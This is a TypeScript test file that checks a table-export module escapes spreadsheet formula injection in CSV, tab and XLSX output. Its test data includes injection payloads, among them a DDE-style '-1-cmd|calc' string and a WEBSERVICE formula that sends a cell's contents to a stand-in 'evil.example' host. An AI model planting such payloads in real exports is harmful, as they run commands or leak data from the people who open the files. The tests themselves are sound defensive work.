import fc from 'fast-check';
import { strFromU8, unzipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import { toCsvLine, toTabLine } from '../../../api/tables/delimited';
import { toSafeCell } from '../../../api/tables/safe-cell';
import { toWorkbook } from '../../../api/tables/workbook';
import { parseCsv } from '../../support/parse-csv';

describe('a cell of text', () => {
  it('T18: no cell becomes a formula, and a plain number stays one', () => {
    const forms = [
      '=1+1',
      '+1',
      '-1+2',
      '@SUM(A1)',
      '\t=1',
      '\r=1',
      ' =1',
      '＝1',
      '＋1',
      '－1',
      '＠x',
      '-1-cmd|calc',
      '\0=1',
      '\u200b=1',
    ];
    for (const form of forms.filter((each) => each !== '+1')) expect(toSafeCell(form)).toBe(`'${form}`);
    for (const number of ['12', '-3', '-3.25', '0']) expect(toSafeCell(number)).toBe(number);
  });
});

describe('lines of text', () => {
  const cells = fc.array(fc.oneof(fc.string({ unit: 'binary' }), fc.double({ noNaN: true })), {
    minLength: 2,
  });

  it('CSV reads back as it was, whatever stands in a cell', () => {
    fc.assert(
      fc.property(cells, (each) => {
        expect(parseCsv(toCsvLine(each))).toEqual([each.map(toSafeCell)]);
      }),
      { numRuns: 300, seed: 20_261_128 },
    );
  });

  it('a tab or a line break in a cell parts nothing when it is pasted', () => {
    expect(toTabLine(['a\tb', 'c\nd', 'e'])).toBe('"a\tb"\t"c\nd"\te\r\n');
  });
});

describe('a workbook', () => {
  const open = async (text: string) => {
    const files = unzipSync(await toWorkbook([{ name: 'List', headings: ['a', 'b'], rows: [[text, -2]] }]));
    return Object.entries(files).map(([path, bytes]) => [path, strFromU8(bytes)] as const);
  };

  it('T18: holds text as text and numbers as numbers, and nothing that is worked out or fetched', async () => {
    const files = await open('=WEBSERVICE("https://evil.example/"&A1)');
    const sheet = files.find(([path]) => path.endsWith('sheet1.xml'))?.[1] ?? '';
    expect(sheet).toMatch(/<c [^>]*t="(s|inlineStr)"/);
    expect(sheet).toContain('<v>-2</v>');
    for (const [path, xml] of files) {
      expect(xml, path).not.toMatch(/<f[ >]/);
      expect(xml, path).not.toMatch(/TargetMode="External"/);
    }
    expect(files.filter(([path]) => /externalLink|connections|vba/i.test(path))).toEqual([]);
  });

  it('stays XML whatever somebody typed', async () => {
    for (const text of ['a\u0000b\u000b', '\ud800', ']]><f>1</f>', '<&>"\'', '\uffff']) {
      const xml = (await open(text)).map(([, each]) => each).join('');
      // biome-ignore lint/suspicious/noControlCharactersInRegex: XML 1.0 has no place for them.
      expect(xml).not.toMatch(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\ufffe\uffff]/);
      expect(xml).not.toContain('<f>');
    }
  });
});
